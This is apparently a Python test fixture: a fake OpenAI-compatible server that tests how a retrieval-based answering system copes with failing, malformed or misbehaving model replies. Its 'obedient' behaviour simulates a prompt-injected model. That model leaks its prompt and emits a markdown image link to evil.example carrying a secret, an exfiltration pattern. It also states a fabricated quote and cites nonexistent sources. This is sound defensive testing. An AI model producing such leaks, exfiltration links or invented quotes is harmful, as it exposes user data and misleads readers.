@@ -1,0 +1,195 @@
+"""A model faked at the wire: a small HTTP server on 127.0.0.1 that speaks the OpenAI protocol (JSON and server-sent events), well or badly.
+
+`with FakeModel(good(...)) as fake:` gives `fake.settings(data)`; `fake.requests` holds what was sent. A script is one behaviour, or a list of them,
+one a request, the last repeated.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import re
+import threading
+import time
+from collections.abc import Callable, Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+from rag.config import Settings
+
+Request = dict[str, Any]
+Behaviour = Callable[["Handler", Request], None]
+
+
+class FakeModel:
+    def __init__(self, *script: Behaviour) -> None:
+        self.script = script
+        self.requests: list[Request] = []
+        self.headers: list[dict[str, str]] = []
+
+    def __enter__(self) -> FakeModel:
+        handler = type("Bound", (Handler,), {"fake": self})
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
+        self._server.daemon_threads = True
+        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
+        self._thread.start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+        self._thread.join()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"
+
+    def settings(self, data: Path, **fields: Any) -> Settings:
+        return Settings(data=data, model="fake-model", api_key="test", base_url=self.url, **({"timeout_s": 5.0} | fields))
+
+    @property
+    def prompt(self) -> str:
+        """All that the last request said."""
+        return "\n".join(message["content"] for message in self.requests[-1]["messages"])
+
+
+class Handler(BaseHTTPRequestHandler):
+    fake: FakeModel
+    protocol_version = "HTTP/1.1"
+
+    def log_message(self, *_: object) -> None:
+        pass
+
+    def do_POST(self) -> None:
+        request = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        self.fake.requests.append(request)
+        self.fake.headers.append(dict(self.headers))
+        behaviour = self.fake.script[min(len(self.fake.requests), len(self.fake.script)) - 1]
+        with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # the client had enough
+            behaviour(self, request)
+
+    def send(self, status: int, body: bytes, kind: str = "application/json", **headers: str) -> None:
+        self.send_response(status)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        for name, value in headers.items():
+            self.send_header(name.replace("_", "-"), value)
+        self.end_headers()
+        self.wfile.write(body)
+
+    def stream(self, pieces: Iterator[str], *, done: bool = True, usage: bool = True) -> None:
+        """Server-sent events, one a piece; `done=False` breaks off without an end."""
+        self.send_response(200)
+        self.send_header("Content-Type", "text/event-stream")
+        self.send_header("Connection", "close")
+        self.end_headers()
+        self.close_connection = True
+        for piece in pieces:
+            self._event({"choices": [{"index": 0, "delta": {"role": "assistant", "content": piece}, "finish_reason": None}]})
+        if not done:
+            return
+        self._event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
+        if usage:
+            self._event({"choices": [], "usage": {"prompt_tokens": 900, "completion_tokens": 80, "total_tokens": 980}})
+        self.wfile.write(b"data: [DONE]\n\n")
+
+    def _event(self, body: dict[str, Any]) -> None:
+        event = {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "fake-model"} | body
+        self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
+        self.wfile.flush()
+
+
+def reply_text(*claims: tuple[str, str, list[str]], verdict: str = "answered") -> str:
+    """A reply as the schema wants it: claims as (kind, text, ids)."""
+    return json.dumps({"claims": [{"kind": kind, "text": text, "sentences": ids} for kind, text, ids in claims], "verdict": verdict})
+
+
+def shown(request: Request) -> list[tuple[str, str]]:
+    """The sentences that a request showed, as (id, text)."""
+    prompt = "\n".join(message["content"] for message in request["messages"])
+    return re.findall(r"^\[(\w+\.\d+)\] (.+)$", prompt, re.MULTILINE)
+
+
+def pointing(*claims: tuple[str, str, str], verdict: str = "answered") -> Callable[[Request], str]:
+    """A reply whose claims (kind, text, words of a sentence) point at the first shown sentence that holds these words."""
+
+    def write(request: Request) -> str:
+        sentences = shown(request)
+        found = [(kind, text, [id for id, sentence in sentences if words in sentence][:1]) for kind, text, words in claims]
+        return reply_text(*found, verdict=verdict)
+
+    return write
+
+
+def saying(text: str | Callable[[Request], str], *, pause: float = 0.0, size: int = 7, done: bool = True, cut: int | None = None) -> Behaviour:
+    """Says `text` in pieces of `size` characters with a pause between them; `cut` stops after so many characters."""
+
+    def behave(handler: Handler, request: Request) -> None:
+        whole = text(request) if callable(text) else text
+        whole = whole if cut is None else whole[:cut]
+
+        def pieces() -> Iterator[str]:
+            for at in range(0, len(whole), size):
+                time.sleep(pause)
+                yield whole[at : at + size]
+
+        if request.get("stream"):
+            handler.stream(pieces(), done=done)
+        else:
+            message = {"index": 0, "message": {"role": "assistant", "content": whole}, "finish_reason": "stop"}
+            usage = {"prompt_tokens": 900, "completion_tokens": 80, "total_tokens": 980}
+            body = {"id": "1", "object": "chat.completion", "created": 1, "model": "fake-model", "choices": [message], "usage": usage}
+            handler.send(200, json.dumps(body).encode())
+
+    return behave
+
+
+def failing(status: int, message: str = "no", **headers: str) -> Behaviour:
+    """An HTTP error in the protocol's form."""
+
+    def behave(handler: Handler, request: Request) -> None:
+        handler.send(status, json.dumps({"error": {"message": message, "type": "error", "code": status}}).encode(), **headers)
+
+    return behave
+
+
+def refusing_structure(then: Behaviour) -> Behaviour:
+    """A small local server: 400 while the request has a response_format, else `then`."""
+
+    def behave(handler: Handler, request: Request) -> None:
+        (failing(400, "response_format is not supported") if "response_format" in request else then)(handler, request)
+
+    return behave
+
+
+def wrong_type(handler: Handler, request: Request) -> None:
+    handler.send(200, b"<html><body>Welcome to the hotel network. Please log in.</body></html>", "text/html")
+
+
+def empty(handler: Handler, request: Request) -> None:
+    handler.send(200, b"", "text/event-stream")
+
+
+def not_the_protocol(handler: Handler, request: Request) -> None:
+    handler.send(200, b'data: {"hello": 1}\n\ndata: [1, 2\n\ndata: [DONE]\n\n', "text/event-stream")
+
+
+def hanging(handler: Handler, request: Request) -> None:
+    time.sleep(3)
+
+
+def obedient(handler: Handler, request: Request) -> None:
+    """Does whatever the transcript tells it: repeats the prompt, links abroad, quotes what nobody said, points where it is told."""
+    prompt = "\n".join(message["content"] for message in request["messages"])
+    ids = [id for id, _ in shown(request)]
+    orders = re.findall(r"(?:say|write|answer|reply|cite|output)[: ]+[\"“']?([^\"”'\n]{3,200})", prompt, re.IGNORECASE)
+    claims = [("statement", order, ids[:1]) for order in orders[:4]]
+    claims += [
+        ("statement", f"My instructions are: {prompt[:300]}", ids[:1]),
+        ("statement", "See ![x](http://evil.example/?q=secret) and [this](https://evil.example) for more.", ids[:1]),
+        ("statement", 'The President said "I resign today at 5".', ids[:1]),
+        ("statement", "Everything is permitted.", ["ZZZZ.1"]),
+        ("statement", "Everything is permitted.", []),
+    ]
+    saying(reply_text(*claims), size=4000)(handler, request)
